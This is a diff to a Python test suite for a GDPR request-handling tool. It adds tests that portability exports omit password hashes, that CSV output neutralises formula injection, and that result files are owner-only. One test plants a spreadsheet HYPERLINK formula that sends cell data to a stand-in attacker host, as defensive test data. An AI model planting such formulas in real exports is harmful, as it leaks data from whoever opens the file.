@@ -9,7 +9,9 @@ byte-for-byte unchanged.
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 import json
 import re
 import uuid
@@ -37,6 +39,8 @@ from garde.subjects import subject_state
 from garde.suppression import is_suppressed
 from tests.conftest import mailed_code
 
+from .conftest import mode
+
 REGISTER = """
 language: en
 controller: {name: Mini Shop SAS, country: FR, supervisory_authority: CNIL}
@@ -45,7 +49,7 @@ activities:
     name: {en: Customer accounts, fr: Comptes clients, it: Account dei clienti}
     purposes: [{en: Manage your account, fr: Gérer votre compte}]
     data_subjects: [customer]
-    data_categories: [identity, contact, location]
+    data_categories: [identity, contact, location, account]
     legal_bases: [contract]
     recipients: [service_providers]
     retention: ["3 years after last_contact"]
@@ -99,6 +103,7 @@ tables:
       phone: {{category: contact.phone, activities: [accounts], erase: delete}}
       birth_date: {{category: identity.date_of_birth, activities: [accounts], erase: delete}}
       newsletter: {{category: marketing.consents, activities: [newsletter], erase: delete}}
+      password_hash: {{category: account.password, activities: [accounts], erase: delete}}
   addresses:
     subject: customer
     primary_key: id
@@ -154,7 +159,7 @@ def shop_schema() -> sa.MetaData:
              sa.Column("email", sa.String(200), nullable=False), sa.Column("number", sa.String(20)),
              sa.Column("name", sa.String(100)), sa.Column("phone", sa.String(30)),
              sa.Column("birth_date", sa.Date), sa.Column("newsletter", sa.Boolean),
-             sa.Column("created_at", sa.DateTime))
+             sa.Column("created_at", sa.DateTime), sa.Column("password_hash", sa.String(64)))
     sa.Table("addresses", meta, sa.Column("id", sa.Integer, primary_key=True),
              sa.Column("customer_id", sa.ForeignKey("customers.id"), nullable=False),
              sa.Column("street", sa.String(200)), sa.Column("postal_code", sa.String(10)))
@@ -185,7 +190,7 @@ def crm_schema() -> sa.MetaData:
 def _customer(i: int, email: str, name: str, phone: str) -> dict[str, Any]:
     return {"id": i, "email": email, "number": f"C-{i:04d}", "name": name, "phone": phone,
             "birth_date": date(1980 + i, 2, 28), "newsletter": True,
-            "created_at": datetime(2011, 1, i)}
+            "created_at": datetime(2011, 1, i), "password_hash": f"$argon2id$v=19$secret-{i}"}
 
 
 def fill(shop: sa.Engine, crm: sa.Engine) -> None:
@@ -358,6 +363,47 @@ def test_portability_keeps_provided_data_on_consent_or_contract(shop: Shop) -> N
     assert "number" not in customer  # derived, not provided
     assert "crm.contacts" not in data  # legitimate interests: not portable
     assert "shop.invoices" not in data  # legal obligation: not portable
+
+
+def test_portability_never_exports_credentials(shop: Shop) -> None:
+    request_id = verified(shop, "portability", {"customer_id": "C-0001"})
+    run(shop.store, request_id, shop.deployment)
+    with zipfile.ZipFile(shop.deployment.results / request_id / "portability.zip") as archive:
+        everything = b"".join(archive.read(name) for name in archive.namelist())
+        customer = json.loads(archive.read("data.json"))["shop.customers"][0]
+    # account.password is provided, on contract, yet a secret: the same categories the access
+    # answer hides never leave in a portable file, not even as an empty column.
+    assert "password_hash" not in customer and customer["email"] == "ana@example.org"
+    assert b"password_hash" not in everything and b"secret-1" not in everything
+    assert shop.deployment.is_secret("account.security_question")  # resets the password too
+    assert not shop.deployment.is_secret("account.login")
+
+
+def test_portability_csv_cannot_run_as_a_formula(shop: Shop) -> None:
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"Ana")'
+    with shop.deployment.engines["shop"].begin() as conn:
+        conn.execute(sa.text("UPDATE customers SET name = :name WHERE id = 1"), {"name": payload})
+    request_id = verified(shop, "portability", {"customer_id": "C-0001"})
+    run(shop.store, request_id, shop.deployment)
+    with zipfile.ZipFile(shop.deployment.results / request_id / "portability.zip") as archive:
+        (customer,) = csv.DictReader(io.StringIO(archive.read("shop.customers.csv").decode("utf-8")))
+        data = json.loads(archive.read("data.json"))
+    assert customer["name"] == "'" + payload and customer["phone"] == "+33611111111"
+    assert data["shop.customers"][0]["name"] == payload  # the machine format keeps the value as stored
+
+
+@pytest.mark.usefixtures("umask_022")
+def test_request_results_are_owner_only(shop: Shop) -> None:
+    for kind, identities in (("access", {"email": "ana@example.org"}),
+                             ("portability", {"customer_id": "C-0001"}),
+                             ("erasure", {"email": "bob@example.org"})):
+        request_id = verified(shop, kind, identities)
+        assert run(shop.store, request_id, shop.deployment).status == "completed"
+        folder = shop.deployment.results / request_id
+        files = {path.name: mode(path) for path in folder.iterdir()}
+        assert files and set(files.values()) == {0o600}, (kind, files)
+        assert mode(folder) == 0o700
+    assert mode(shop.deployment.results) == 0o700
 
 
 def test_rectification_reaches_every_copy(shop: Shop) -> None:
